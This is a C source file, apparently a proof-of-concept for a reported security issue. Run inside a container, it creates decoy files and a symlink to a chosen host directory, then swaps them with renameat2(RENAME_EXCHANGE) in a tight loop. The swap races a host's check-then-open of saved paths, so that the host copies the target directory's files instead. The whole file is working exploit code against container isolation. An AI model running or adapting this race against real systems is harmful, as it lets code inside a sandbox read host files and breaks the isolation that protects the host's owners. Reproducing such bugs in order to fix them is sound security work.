/* The symlink-swap race of the security issue, run inside an execution
 * environment: makes DIR/d/f0..f(N-1) holding "env", a symlink DIR/e ->
 * TARGET (a host directory whose files hold something else), then swaps d
 * and e with renameat2(RENAME_EXCHANGE) as fast as it can for SECONDS.
 * A host that checks a path and then opens it again by name copies TARGET's
 * files when it saves d/f*. Static, so it runs in any container.
 *
 *   swap_race DIR TARGET SECONDS [FILES]
 *
 * Prints "ready" once the files exist, then "swaps N" at the end. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char** argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: %s DIR TARGET SECONDS [FILES]\n", argv[0]);
        return 2;
    }
    const char* dir = argv[1];
    const char* target = argv[2];
    const double seconds = atof(argv[3]);
    const int files = argc > 4 ? atoi(argv[4]) : 200;

    int root = open(dir, O_RDONLY | O_DIRECTORY);
    if (root < 0 || (mkdirat(root, "d", 0755) != 0 && errno != EEXIST)) {
        perror(dir);
        return 1;
    }
    for (int i = 0; i < files; ++i) {
        char name[64];
        snprintf(name, sizeof name, "d/f%d", i);
        int fd = openat(root, name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0 || write(fd, "env", 3) != 3) {
            perror(name);
            return 1;
        }
        close(fd);
    }
    unlinkat(root, "e", 0);
    if (symlinkat(target, root, "e") != 0) {
        perror("symlink");
        return 1;
    }
    printf("ready\n");
    fflush(stdout);

    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    long swaps = 0;
    for (;;) {
        for (int k = 0; k < 256; ++k)
            if (renameat2(root, "d", root, "e", RENAME_EXCHANGE) == 0)
                ++swaps;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 >= seconds)
            break;
    }
    /* Leave d as the real directory. */
    struct stat st;
    if (fstatat(root, "d", &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(st.st_mode))
        renameat2(root, "d", root, "e", RENAME_EXCHANGE);
    printf("swaps %ld\n", swaps);
    return 0;
}
